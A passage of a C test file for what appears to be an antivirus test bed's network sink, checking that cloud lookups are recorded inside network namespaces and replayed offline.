        if (guest_get("cloud.rec.example", path, resp, sizeof(resp)) != 0)
            _exit(11);
        if (strncmp(resp, "HTTP/1.1 200", 12) != 0 || strstr(resp, "X-Upstream: yes") == NULL ||
            strstr(resp, "\r\n\r\nupload\n") == NULL)
            _exit(12);
        _exit(0);
    }
    ck_assert_int_eq(waitpid(pid, &status, 0), pid);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
}

START_TEST(record_then_replay_offline)
{
    avtb_collector_env env = env_for(BRIDGE, SINK_IP);
    const avtb_collector_ops *snk = collector("sink");
    avtb_connect_to to;
    avtb_cloud_recording *rec = NULL;
    void *state = NULL;
    avtb_error err = {0};
    pid_t up;
    int status;
    json_t *o;

    ck_assert_int_eq(avtb_connect_to_parse(":80:127.0.0.1:18089", &to, &err), AVTB_OK);
    up = upstream_start(1);
    env.cloud_mode = AVTB_CLOUD_RECORD;
    env.connect_to = &to;
    env.nconnect_to = 1;
    ck_assert_msg(snk->start(&env, &state, &err) == AVTB_OK, "sink: %s", err.msg);
    ck_assert_int_eq(guest_asks("aa"), 0);
    ck_assert_msg(snk->stop(state, &err), "sink stop: %s", err.msg);
    ck_assert_int_eq(waitpid(up, &status, 0), up);
    ck_assert_msg(WIFEXITED(status) && WEXITSTATUS(status) == 0, "upstream exit %d", status);
    o = jsonl_find("cloud-recording.jsonl", "host", "cloud.rec.example");
    ck_assert_int_eq(jint(o, "status"), 200);
    ck_assert_str_eq(jstr(o, "uri"), "/api/v1/lookup?sha256=aa");
    json_decref(o);

    /* The upstream is gone: the replay answers by itself, for another query. */
    ck_assert_msg(avtb_cloud_load(evdir, &rec, &err) == AVTB_OK, "%s", err.msg);
    env = env_for(BRIDGE, SINK_IP);
    env.cloud_mode = AVTB_CLOUD_REPLAY;
    env.replay = rec;
    ck_assert_msg(snk->start(&env, &state, &err) == AVTB_OK, "sink: %s", err.msg);
    ck_assert_int_eq(guest_asks("zz"), 0);
    ck_assert_msg(snk->stop(state, &err), "sink stop: %s", err.msg);
    o = jsonl_find("sink-http.jsonl", "uri", "/api/v1/lookup?sha256=zz");
    ck_assert_int_eq(jint(o, "replayed"), 0);
    json_decref(o);
    avtb_cloud_free(rec);
}
END_TEST

int main(void)
{
    Suite *s = suite_create("sink_capture");
    TCase *tc = tcase_create("netns");
    int failed = 1;
    SRunner *sr;

    if (geteuid() != 0) {
        fprintf(stderr, "test_sink_capture: skipped: needs root to create network namespaces\n");
        return 77;
    }
    if (netns_create() != 0 || enter_netns(ns_host) != 0) {
        fprintf(stderr, "test_sink_capture: cannot set up the test namespaces\n");
        netns_delete();
        return 1;
    }
    {
        avtb_error err = {0};

        if (avtb_nft_install(&nft_spec, &err) != AVTB_OK) {
            fprintf(stderr, "test_sink_capture: %s\n", err.msg);
            netns_delete();
            return 1;
        }
    }
    tcase_add_checked_fixture(tc, setup, teardown);
    tcase_set_timeout(tc, 60);
    tcase_add_test(tc, sink_and_capture_record_an_upload);
    tcase_add_test(tc, sink_serves_scenario_answers);
    tcase_add_test(tc, start_errors_are_reported);
    tcase_add_test(tc, crashed_capture_is_incomplete);
    tcase_add_test(tc, sink_catches_every_destination);
    tcase_add_test(tc, record_then_replay_offline);
    suite_add_tcase(s, tc);
    sr = srunner_create(s);
    srunner_run_all(sr, CK_NORMAL);
    failed = srunner_ntests_failed(sr);
    srunner_free(sr);
    netns_delete();
    return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
